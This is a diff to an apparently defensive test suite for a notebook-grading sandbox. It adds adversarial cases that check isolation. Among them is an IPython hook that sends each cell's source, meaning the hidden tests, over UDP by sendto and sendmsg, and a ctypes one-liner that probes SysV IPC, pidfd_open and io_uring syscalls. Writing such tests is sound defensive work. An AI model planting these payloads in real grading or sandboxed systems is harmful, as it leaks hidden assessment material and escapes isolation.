@@ -257,6 +257,45 @@ def leaks_hidden_tests(release, source, info, others):
     return nb
 
 
+# Issue 21's attacks: a way out of the job. A UDP listener of the test (test_grade_adversarial.py) waits on this
+# port; a hook IPython runs before every cell sends that cell's source (the hidden tests) there, by sendto and by
+# sendmsg (which the re-check's audit hook never refused). If a datagram could be sent at all, the first graded
+# function is broken too, so the score shows it.
+UDP_PORT = 47_921
+UDP_LEAK = """import socket as _socket
+
+def _udp_send(data):
+    try:
+        _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+        return _s.sendto(data, ("127.0.0.1", PORT)) + _s.sendmsg([data], [], 0, ("127.0.0.1", PORT))
+    except OSError:
+        return 0
+
+try:
+    get_ipython().events.register("pre_run_cell", lambda info: _udp_send(info.raw_cell.encode()[:8000]))
+except NameError:  # the re-check's process has no IPython
+    pass
+if _udp_send(b"hello from the student"):
+    def {name}(*args, **kwargs):
+        return None
+""".replace("PORT", str(UDP_PORT))
+
+
+def leaks_over_udp(release, source, info, others):
+    nb = demo_class.right(release, source)
+    _first_solution(nb).source += "\n" + UDP_LEAK.format(name=_first_function(info))
+    return nb
+
+
+# Kernel objects that outlive the job (SysV message queue and shared memory: a channel between students' kernels)
+# or reach outside it (a pidfd, io_uring: 434 and 425 on every Linux architecture since 5.1). IPC_PRIVATE | IPC_CREAT.
+KERNEL_INTERFACES = (
+    "(lambda c: c.msgget(0, 0o1600) >= 0 or c.shmget(0, 4096, 0o1600) >= 0 or c.semget(0, 1, 0o1600) >= 0"
+    " or c.syscall(434, __import__('os').getpid(), 0) >= 0 or c.syscall(425, 4, bytes(120)) >= 0)"
+    "(__import__('ctypes').CDLL(None))"
+)
+
+
 FORGES_BOTH_JUDGES = """import os as _os, json as _json
 def _swallow(lines):
     return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
@@ -831,5 +870,21 @@ CASES = [
         "kernel died",
         "Does a test cell during which the kernel died fail (not pass for lack of an error), even when the re-check "
         "is satisfied?",
+    ),
+    Case(
+        "leaks_over_udp",
+        leaks_over_udp,
+        full,  # no socket but a UNIX one can be made, in the kernel or the re-check: the send fails, quietly
+        None,
+        "Does a pre_run_cell hook that sends each cell (the hidden tests) over UDP send nothing, and does a direct "
+        "sendto or sendmsg fail?",
+    ),
+    Case(
+        "kernel_interfaces",
+        _break_first_if(KERNEL_INTERFACES),
+        full,  # seccomp refuses every one in the kernel; the re-check refuses ctypes outright
+        "ctypes",
+        "Are SysV IPC (msgget, shmget, semget), pidfd_open and io_uring_setup refused in the kernel, leaving no "
+        "object behind?",
     ),
 ]
